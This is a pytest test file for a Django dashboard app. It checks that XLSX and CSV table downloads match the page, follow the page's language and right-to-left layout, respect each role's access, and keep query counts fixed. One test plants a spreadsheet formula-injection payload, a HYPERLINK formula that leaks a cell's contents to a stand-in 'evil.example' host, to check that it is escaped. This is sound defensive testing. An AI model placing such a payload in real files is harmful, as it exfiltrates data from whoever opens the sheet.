"""Each table of the dashboards, the programme, municipality and completeness pages downloads as
XLSX and CSV (`web.downloads`): the rows and columns the page shows, in the page's language (an
Arabic page gives Arabic headers and a right-to-left sheet), no cell a formula, nothing the user
may not see, in a fixed number of queries. The IPTT and completeness reports under /api/ follow
the page's language through `lang=`."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django.utils.formats import date_format
from lxml import html
from openpyxl import load_workbook

from indicators.models import NationalTarget
from tests import factories as f
from tests.roles import ROLE_NAMES
from web.templatetags.twinning_web import num, pct

from .test_query_counts import grow

pytestmark = pytest.mark.django_db
AS_OF = "2025-12-31"


def url(name, language="en", args=(), **query):
    with translation.override(language):
        base = reverse(name, args=args)
    return base + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


ACTIVITIES = '//section[@aria-labelledby="activities-heading"]//table'
# (page, role, table name, XPath of the table on the page, indexes of the percentage columns)
TABLES = [
    ("ministry", "ministry_viewer", "national-targets", '//table[@id="national-targets"]', {3, 5}),
    ("ministry", "ministry_viewer", "overlaps", '//table[@id="overlaps"]', set()),
    ("ministry", "ministry_viewer", "matrix", '//table[@id="matrix"]', set(range(2, 40))),
    ("ministry", "ministry_viewer", "municipalities", '//table[@id="municipality-overview"]', set()),
    ("donor", "donor_a_viewer", "indicators", '//table[@id="donor-indicators"]', {4, 8}),
    ("donor", "donor_a_viewer", "periods", '//section[@aria-labelledby="charts-heading"]//table', set()),
    ("programme", "donor_a_viewer", "workstreams", '//section[@aria-labelledby="workstreams-heading"]//table', set()),
    ("programme", "donor_a_viewer", "indicators", '//table[@id="indicators"]', set()),
    ("programme", "donor_a_viewer", "activities", ACTIVITIES, set()),
    ("municipality", "municipality_x_editor", "indicators", '//table[@id="municipality-indicators"]', {4, 8}),
    ("municipality", "municipality_x_editor", "results", '//table[@id="recent-results"]', set()),
    ("municipality", "municipality_x_editor", "activities", ACTIVITIES, set()),
    ("completeness", "ministry_viewer", "programmes", '//section[@aria-labelledby="by-programme"]//table', {6}),
    ("completeness", "ministry_viewer", "municipalities", '//section[@aria-labelledby="by-municipality"]//table', {5}),
    ("completeness", "ministry_viewer", "indicators", '//table[@id="completeness-rows"]', {8}),
]


# The page shows these as the colour of a progress bar (explained by its legend); the file, which
# has no bar, says them in words.
COLOUR_ONLY = {("national-targets", "Status to date"), ("indicators", "Status to date")}
# Shown on the page only when there are some; the file always gives the count.
NOTED_WHEN_ANY = {("national-targets", "Indicators not measurable yet")}


def page_url(world, page, language="en"):
    if page == "ministry":
        return url("ministry_dashboard", language)
    if page == "donor":
        return url("donor_dashboard", language)
    if page == "programme":
        return url("programme_detail", language, args=[world.programmes["p1"].pk])
    if page == "municipality":
        return url("municipality_detail", language, args=[world.orgs["x"].pk])
    return url("completeness", language, as_of=AS_OF)


def with_download(address, table, output):
    joiner = "&" if "?" in address else "?"
    return f"{address}{joiner}download={output}&table={table}"


def xlsx_rows(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    return sheet, [list(row) for row in sheet.iter_rows(values_only=True)]


def csv_rows(response):
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def shown(value, is_percent: bool) -> str:
    """A downloaded cell as the page writes it."""
    if value is None or value == "":
        return ""
    if is_percent:
        return pct(value)
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return num(value)
    if hasattr(value, "year"):
        return date_format(value, "SHORT_DATE_FORMAT")
    return str(value)


def page_rows(content, xpath):
    """The text of each body row of the tables found, cell by cell. Several tables: the donor's
    charts, each under the heading that names its indicator (given before its rows)."""
    tables = html.fromstring(content).xpath(xpath)
    assert tables, xpath
    rows = []
    for table in tables:
        heading = " ".join(h.text_content() for h in table.xpath("ancestor::article[1]/h3"))
        for row in table.xpath(".//tbody/tr"):
            if row.xpath("./td[@colspan]"):  # "No … yet."
                continue
            cells = [heading, *(cell.text_content() for cell in row.xpath("./th|./td"))]
            rows.append(" | ".join(" ".join(text.split()) for text in cells))
    return rows


@pytest.mark.parametrize(("page", "role", "table", "xpath", "percents"), TABLES, ids=[f"{t[0]}-{t[2]}" for t in TABLES])
def test_each_table_downloads_the_rows_the_page_shows(world, client_for, page, role, table, xpath, percents):
    client = client_for(role)
    address = page_url(world, page)
    response = client.get(address)
    assert response.status_code == 200
    content = response.content.decode()
    assert f"download=xlsx&amp;table={table}" in content and f"download=csv&amp;table={table}" in content
    on_page = page_rows(content, xpath)
    _sheet, workbook = xlsx_rows(client.get(with_download(address, table, "xlsx")))
    text = csv_rows(client.get(with_download(address, table, "csv")))
    header, rows = workbook[0], workbook[1:]
    assert text[0] == [str(h) for h in header]
    assert len(rows) == len(text) - 1 == len(on_page), (rows, on_page)
    for downloaded, page_row in zip(rows, on_page, strict=True):
        for index, cell in enumerate(downloaded):
            if (table, header[index]) in COLOUR_ONLY:
                continue
            if (table, header[index]) in NOTED_WHEN_ANY and cell == 0:
                continue
            expected = " ".join(shown(cell, index in percents).split())
            assert expected in page_row, (header[index], expected, page_row)
    if table in ("national-targets", "indicators", "workstreams", "municipalities", "activities", "results"):
        assert rows, "the roles world shows rows in this table"


def test_the_ministry_tables_hold_its_numbers(world, client_for):
    client = client_for("ministry_viewer")
    _sheet, rows = xlsx_rows(client.get(with_download(reverse("ministry_dashboard"), "national-targets", "xlsx")))
    header, (target,) = rows[0], rows[1:]
    assert header[:4] == ["Code", "National target", "Deadline", "Progress to date"]
    assert target[0] == "NT-1" and isinstance(target[3], int | float) and target[9] == 2  # two aligned indicators
    _sheet, rows = xlsx_rows(client.get(with_download(reverse("ministry_dashboard"), "municipalities", "xlsx")))
    names = [row[0] for row in rows[1:]]
    assert {"Ghadames", "Tinley Park", "Municipality Z"} <= set(names)


def test_an_arabic_page_downloads_arabic_headers_in_a_right_to_left_sheet(world, client_for):
    client = client_for("ministry_viewer")
    sheet, rows = xlsx_rows(client.get(with_download(page_url(world, "ministry", "ar"), "national-targets", "xlsx")))
    with translation.override("ar"):
        expected = [translation.gettext("Code"), translation.gettext("National target")]
    assert rows[0][:2] == expected and expected[0] != "Code"
    assert sheet.sheet_view.rightToLeft is True
    text = csv_rows(client.get(with_download(page_url(world, "ministry", "ar"), "national-targets", "csv")))
    assert text[0][:2] == expected
    sheet, rows = xlsx_rows(client.get(with_download(page_url(world, "municipality", "ar"), "indicators", "xlsx")))
    assert sheet.sheet_view.rightToLeft is True
    english, _rows = xlsx_rows(client.get(with_download(page_url(world, "ministry"), "national-targets", "xlsx")))
    assert not english.sheet_view.rightToLeft
    # A name kept in Arabic is given in Arabic on an Arabic page.
    x_editor = client_for("municipality_x_editor")
    _sheet, rows = xlsx_rows(x_editor.get(with_download(page_url(world, "programme", "ar"), "activities", "xlsx")))
    assert "غدامس" in [row[6] for row in rows[1:]]


def test_a_hostile_name_is_text_in_every_download_never_a_formula(world, client_for):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    NationalTarget.objects.filter(pk=world.national_target.pk).update(title_en=hostile)
    f.NationalTargetFactory(code="NT-2", title_en="+1+2")
    cache.clear()
    client = client_for("ministry_viewer")
    address = reverse("ministry_dashboard")
    sheet, rows = xlsx_rows(client.get(with_download(address, "national-targets", "xlsx")))
    titles = {row[0]: row[1] for row in rows[1:]}
    assert titles["NT-1"] == "'" + hostile and titles["NT-2"] == "'+1+2"
    for cells in sheet.iter_rows(min_row=2):
        assert cells[1].data_type == "s"
    text = csv_rows(client.get(with_download(address, "national-targets", "csv")))
    assert {row[0]: row[1] for row in text[1:]}["NT-1"] == "'" + hostile


@pytest.mark.parametrize(
    ("role", "address", "status"),
    [
        # A page one may not open gives no download either: 403 where it is seen but not allowed,
        # 404 for what lies outside one's view, the sign-in page for no one.
        ("donor_a_viewer", lambda w: reverse("ministry_dashboard"), 403),
        ("municipality_x_editor", lambda w: reverse("ministry_dashboard"), 403),
        ("donor_a_viewer", lambda w: f"{reverse('donor_dashboard')}?donor={w.orgs['donor_b'].pk}", 404),
        ("donor_a_viewer", lambda w: reverse("programme_detail", args=[w.programmes["p2"].pk]), 404),
        ("municipality_x_editor", lambda w: reverse("programme_detail", args=[w.programmes["p2"].pk]), 404),
        ("municipality_x_editor", lambda w: reverse("municipality_detail", args=[w.orgs["z"].pk]), 404),
        ("donor_b_viewer", lambda w: reverse("municipality_detail", args=[w.orgs["x"].pk]), 404),
        (None, lambda w: reverse("ministry_dashboard"), 302),
        (None, lambda w: reverse("completeness"), 302),
    ],
)
def test_no_download_of_what_one_cannot_see(world, client_for, role, address, status):
    for table in ("national-targets", "indicators", "activities"):
        response = client_for(role).get(with_download(address(world), table, "xlsx"))
        assert response.status_code == status
        if status == 302:
            assert "/login/" in response["Location"]


def test_each_role_downloads_what_its_page_shows_and_no_more(world, client_for):
    donor = client_for("donor_a_viewer")
    _sheet, rows = xlsx_rows(donor.get(with_download(reverse("donor_dashboard"), "indicators", "xlsx")))
    assert [row[1] for row in rows[1:]] == ["P1-1"]
    for role, hidden in (("donor_a_viewer", "Municipality Z"), ("municipality_x_editor", "Tinley Park")):
        text = csv_rows(client_for(role).get(with_download(url("completeness", as_of=AS_OF), "indicators", "csv")))
        assert text[1:] and all(hidden not in row for row in text[1:])
    superuser = client_for("superuser")
    assert superuser.get(with_download(reverse("ministry_dashboard"), "overlaps", "csv")).status_code == 200


@pytest.mark.parametrize("query", ["download=pdf&table=overlaps", "download=xlsx&table=nothing", "download=csv"])
def test_an_unknown_format_or_table_is_not_found(world, client_for, query):
    assert client_for("ministry_viewer").get(f"{reverse('ministry_dashboard')}?{query}").status_code == 404


def test_the_donor_download_follows_the_donor_and_programme_chosen(world, client_for):
    client = client_for("ministry_viewer")
    address = f"{reverse('donor_dashboard')}?donor={world.orgs['donor_b'].pk}"
    content = client.get(address).content.decode()
    assert f"donor={world.orgs['donor_b'].pk}&amp;download=xlsx&amp;table=indicators" in content
    _sheet, rows = xlsx_rows(client.get(with_download(address, "indicators", "xlsx")))
    assert [row[1] for row in rows[1:]] == ["P2-1"]


def count(client, address):
    cache.clear()
    with CaptureQueriesContext(connection) as queries:
        response = client.get(address)
    assert response.status_code == 200, address
    return len(queries)


def test_downloads_run_the_same_number_of_queries_at_ten_times_the_data(world, client_for):
    asked = [(role, page, table) for page, role, table, _xpath, _p in TABLES]
    clients = {role: client_for(role) for role, _page, _table in asked}

    def measure():
        return {
            (page, table, output): count(clients[role], with_download(page_url(world, page), table, output))
            for role, page, table in asked
            for output in ("xlsx", "csv")
        }

    before = measure()
    grow(world, 10)
    after = measure()
    assert before == after
    assert max(after.values()) <= 40, after


# The IPTT and completeness reports of /api/: in the page's language -------------------------


def test_the_programme_page_iptt_links_carry_the_page_language(world, client_for):
    client = client_for("donor_a_viewer")
    p1 = world.programmes["p1"]
    content = client.get(page_url(world, "programme", "ar")).content.decode()
    link = f"/api/v1/reports/iptt/?programme={p1.pk}&amp;format=xlsx&amp;lang=ar"
    assert link in content
    # Whatever the browser asks for, the file is in the page's language.
    response = client.get(link.replace("&amp;", "&"), HTTP_ACCEPT_LANGUAGE="en")
    sheet = load_workbook(io.BytesIO(response.content)).active
    with translation.override("ar"):
        assert sheet["B1"].value == translation.gettext("Indicator") != "Indicator"
    assert sheet.sheet_view.rightToLeft is True
    csv_ar = client.get(f"/api/v1/reports/iptt/?programme={p1.pk}&format=csv&lang=ar", HTTP_ACCEPT_LANGUAGE="en")
    assert csv_ar["Content-Language"] == "ar"
    # Without lang= the contract holds: Accept-Language decides.
    csv_en = client.get(f"/api/v1/reports/iptt/?programme={p1.pk}&format=csv", HTTP_ACCEPT_LANGUAGE="en")
    assert csv_en.content.decode("utf-8-sig").startswith("Code,Indicator,")
    csv_ar_header = client.get(f"/api/v1/reports/iptt/?programme={p1.pk}&format=csv", HTTP_ACCEPT_LANGUAGE="ar")
    assert csv_ar_header.content == csv_ar.content
    # An unknown lang= changes nothing.
    other = client.get(f"/api/v1/reports/iptt/?programme={p1.pk}&format=csv&lang=fr", HTTP_ACCEPT_LANGUAGE="en")
    assert other.content == csv_en.content


def test_the_completeness_report_download_is_in_the_page_language_right_to_left(world, client_for):
    client = client_for("ministry_viewer")
    content = client.get(page_url(world, "completeness", "ar")).content.decode()
    link = f"/api/v1/reports/completeness/?as_of={AS_OF}&amp;format=xlsx&amp;lang=ar"
    assert link in content
    response = client.get(link.replace("&amp;", "&"), HTTP_ACCEPT_LANGUAGE="en")
    sheet = load_workbook(io.BytesIO(response.content)).active
    with translation.override("ar"):
        assert sheet["A1"].value == translation.gettext("Programme") != "Programme"
    assert sheet.sheet_view.rightToLeft is True


MATRIX_PAGES = {
    "ministry": (lambda w: reverse("ministry_dashboard"), "overlaps"),
    "donor": (lambda w: reverse("donor_dashboard"), "indicators"),
    "donor B": (lambda w: f"{reverse('donor_dashboard')}?donor={w.orgs['donor_b'].pk}", "indicators"),
    "programme P1": (lambda w: reverse("programme_detail", args=[w.programmes["p1"].pk]), "indicators"),
    "programme P2": (lambda w: reverse("programme_detail", args=[w.programmes["p2"].pk]), "indicators"),
    "municipality X": (lambda w: reverse("municipality_detail", args=[w.orgs["x"].pk]), "indicators"),
    "municipality Z": (lambda w: reverse("municipality_detail", args=[w.orgs["z"].pk]), "indicators"),
    "completeness": (lambda w: reverse("completeness"), "indicators"),
}


@pytest.mark.parametrize("role", [*ROLE_NAMES, "superuser", None])
def test_every_role_downloads_exactly_where_it_may_open_the_page(world, client_for, role):
    """Every role × every page with downloads: the download answers as the page does (200 where
    the page opens, 403 where it is refused, 404 outside one's view, the sign-in page for no one)."""
    client = client_for(role)
    answers = {}
    for name, (address, table) in MATRIX_PAGES.items():
        page = client.get(address(world))
        download = client.get(with_download(address(world), table, "csv"))
        answers[name] = (page.status_code, download.status_code)
        assert download.status_code == page.status_code, (name, answers[name])
        if download.status_code == 200:
            assert download["Content-Type"].startswith("text/csv")
    opened = {name for name, (status, _download) in answers.items() if status == 200}
    expected = {
        "ministry_viewer": set(MATRIX_PAGES),
        "superuser": set(MATRIX_PAGES),
        "donor_a_viewer": {"donor", "programme P1", "municipality X", "completeness"},
        "municipality_x_editor": {"programme P1", "municipality X", "completeness"},
        None: set(),
    }
    if role in expected:
        assert opened == expected[role], answers


def test_the_csv_writes_numbers_plainly_and_dates_day_first(world, client_for):
    client = client_for("municipality_x_editor")
    text = csv_rows(client.get(with_download(page_url(world, "municipality"), "results", "csv")))
    header, rows = text[0], text[1:]
    row = next(r for r in rows if r[0] == "P1-1" and r[2] == "01/01/2025")
    assert row[header.index("Period end")] == "31/03/2025"
    assert row[header.index("Value")] == "40"
